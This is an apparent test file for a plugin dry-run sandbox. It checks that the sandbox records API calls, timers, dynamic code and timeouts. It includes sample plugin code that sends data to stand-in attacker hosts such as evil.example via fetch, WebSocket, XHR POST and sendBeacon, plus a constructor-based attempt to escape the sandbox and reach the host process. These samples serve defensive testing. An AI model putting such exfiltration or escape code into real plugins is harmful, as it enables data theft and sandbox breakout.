@@ -0,0 +1,202 @@
+import { DryRunInput, runDryRun, toScript } from './dry-run-harness';
+import { DryRunPhase } from '../common/entities/plugin-version.entity';
+import { DryRunEventType, DryRunPhaseOutcome } from '../common/enums/dry-run.enum';
+
+describe('runDryRun', () => {
+  const dryRun = (source: string, options: Partial<DryRunInput> = {}): DryRunPhase[] => {
+    const phases: DryRunPhase[] = [];
+    runDryRun(
+      {
+        entryPoint: 'plugin.js',
+        source,
+        voiceIntents: [],
+        screenshotIntents: [],
+        phaseTimeoutMs: 200,
+        maxEventsPerPhase: 50,
+        ...options,
+      },
+      (phase) => phases.push(phase),
+    );
+    return phases;
+  };
+
+  const events = (phase: DryRunPhase) => phase.events.map((e) => [e.type, e.name, e.detail]);
+
+  it('should record host API calls made on load', () => {
+    const [load] = dryRun(`
+      export async function onLoad(api) {
+        const tasks = await api.storage.get('tasks');
+        api.ui.showToast({ text: 'Loaded', count: tasks });
+      }
+    `);
+
+    expect(load.outcome).toBe(DryRunPhaseOutcome.OK);
+    expect(events(load)).toEqual([
+      [DryRunEventType.API_CALL, 'synapse.storage.get', '["tasks"]'],
+      [DryRunEventType.API_CALL, 'synapse.ui.showToast', '[{"text":"Loaded"}]'],
+    ]);
+  });
+
+  it('should invoke each declared intent through exports or registered handlers', () => {
+    const phases = dryRun(
+      `
+      synapse.intents.on('create_task', (context) => synapse.tasks.create(context.intent));
+      module.exports = {
+        onScreenshotIntent(name) { throw new TypeError('No screenshot for ' + name); },
+      };
+    `,
+      { voiceIntents: ['create_task', 'list_tasks'], screenshotIntents: ['analyze_screenshot'] },
+    );
+
+    expect(phases.map((p) => [p.name, p.outcome])).toEqual([
+      ['load', DryRunPhaseOutcome.OK],
+      ['voiceIntent:create_task', DryRunPhaseOutcome.OK],
+      ['voiceIntent:list_tasks', DryRunPhaseOutcome.SKIPPED],
+      ['screenshotIntent:analyze_screenshot', DryRunPhaseOutcome.ERROR],
+    ]);
+    expect(events(phases[1])).toEqual([[DryRunEventType.API_CALL, 'synapse.tasks.create', '["create_task"]']]);
+    expect(events(phases[3])).toEqual([
+      [DryRunEventType.ERROR, 'TypeError', 'No screenshot for analyze_screenshot'],
+    ]);
+  });
+
+  it('should block and record network attempts', () => {
+    const [load] = dryRun(`
+      fetch('https://collect.evil.example/t').catch(() => {});
+      try { new WebSocket('wss://evil.example/live'); } catch (e) {}
+      const xhr = new XMLHttpRequest();
+      xhr.open('POST', 'https://evil.example/upload');
+      try { xhr.send('data'); } catch (e) {}
+      navigator.sendBeacon('https://evil.example/b');
+    `);
+
+    expect(load.outcome).toBe(DryRunPhaseOutcome.OK);
+    expect(events(load)).toEqual([
+      [DryRunEventType.NETWORK, 'fetch', 'https://collect.evil.example/t'],
+      [DryRunEventType.NETWORK, 'WebSocket', 'wss://evil.example/live'],
+      [DryRunEventType.NETWORK, 'XMLHttpRequest', 'POST https://evil.example/upload'],
+      [DryRunEventType.NETWORK, 'navigator.sendBeacon', 'https://evil.example/b'],
+    ]);
+  });
+
+  it('should record timers and run their callbacks at the end of the phase', () => {
+    const [load] = dryRun(`
+      setTimeout(() => synapse.sync(), 60000);
+      setInterval('poll()', 10);
+      const id = setTimeout(() => synapse.never(), 5);
+      clearTimeout(id);
+    `);
+
+    expect(events(load)).toEqual([
+      [DryRunEventType.TIMER, 'setTimeout', 'delay 60000ms'],
+      [DryRunEventType.TIMER, 'setInterval', 'delay 10ms'],
+      [DryRunEventType.DYNAMIC_CODE, 'setInterval', 'poll()'],
+      [DryRunEventType.TIMER, 'setTimeout', 'delay 5ms'],
+      [DryRunEventType.API_CALL, 'synapse.sync', '[]'],
+    ]);
+  });
+
+  it('should record code generated from strings', () => {
+    const [load] = dryRun(`
+      eval('1 + 1');
+      (() => {}).constructor('return 2')();
+    `);
+
+    expect(events(load)).toEqual([
+      [DryRunEventType.DYNAMIC_CODE, 'eval', '1 + 1'],
+      [DryRunEventType.DYNAMIC_CODE, 'Function', 'return 2'],
+    ]);
+  });
+
+  it('should not expose the host realm', () => {
+    const [load] = dryRun(`
+      let escaped;
+      try {
+        escaped = constructor.constructor('return process')();
+      } catch (e) {
+        escaped = this.constructor.constructor('return typeof process')();
+      }
+      synapse.report(typeof escaped === 'string' ? escaped : 'escaped');
+    `);
+
+    expect(load.events).toContainEqual({ type: DryRunEventType.API_CALL, name: 'synapse.report', detail: '["undefined"]' });
+  });
+
+  it('should report rejected promises and unsettled handlers', () => {
+    const phases = dryRun(
+      `
+      export async function onLoad() { await Promise.reject(new Error('Not configured')); }
+      export function onVoiceIntent() { return new Promise(() => {}); }
+    `,
+      { voiceIntents: ['create_task'] },
+    );
+
+    expect(phases.map((p) => p.outcome)).toEqual([DryRunPhaseOutcome.ERROR, DryRunPhaseOutcome.PENDING]);
+    expect(events(phases[0])).toEqual([[DryRunEventType.ERROR, 'Error', 'Not configured']]);
+  });
+
+  it('should stop a phase that runs past its time limit and carry on', () => {
+    const phases = dryRun(
+      `
+      export function onVoiceIntent(name) {
+        if (name === 'spin') { while (true) {} }
+        synapse.done(name);
+      }
+    `,
+      { voiceIntents: ['spin', 'create_task'], phaseTimeoutMs: 100 },
+    );
+
+    expect(phases.map((p) => [p.name, p.outcome])).toEqual([
+      ['load', DryRunPhaseOutcome.OK],
+      ['voiceIntent:spin', DryRunPhaseOutcome.TIMEOUT],
+      ['voiceIntent:create_task', DryRunPhaseOutcome.OK],
+    ]);
+    expect(events(phases[1])).toEqual([[DryRunEventType.ERROR, 'Timeout', 'Ran longer than 100 ms']]);
+  });
+
+  it('should report code that fails to load', () => {
+    const [load] = dryRun('import { readFile } from "fs";');
+
+    expect(load.outcome).toBe(DryRunPhaseOutcome.ERROR);
+    expect(events(load)).toEqual([
+      [DryRunEventType.API_CALL, 'require', 'fs'],
+      [DryRunEventType.ERROR, 'Error', 'Cannot load module fs during the dry run'],
+    ]);
+  });
+
+  it('should cap the events recorded per phase', () => {
+    const [load] = dryRun('for (let i = 0; i < 30; i++) synapse.ping(i);', { maxEventsPerPhase: 10 });
+
+    expect(load.events).toHaveLength(10);
+    expect(load.droppedEvents).toBe(20);
+  });
+});
+
+describe('toScript', () => {
+  it('should leave scripts unchanged', () => {
+    const source = 'module.exports = { onLoad() {} };';
+
+    expect(toScript(source)).toBe(source);
+  });
+
+  it('should turn exports into assignments without moving lines', () => {
+    const script = toScript(
+      [
+        'export const name = "tasks";',
+        'export default async function main() {}',
+        'function helper() {}',
+        'export { helper as onLoad };',
+      ].join('\n'),
+    );
+
+    expect(script.split('\n').slice(0, 4)).toEqual([
+      '\'use strict\';const name = "tasks";',
+      'async function main() {}',
+      'function helper() {}',
+      '',
+    ]);
+    expect(script).toContain('exports.name = name;');
+    expect(script).toContain('exports.default = main;');
+    expect(script).toContain('exports["onLoad"] = helper;');
+  });
+});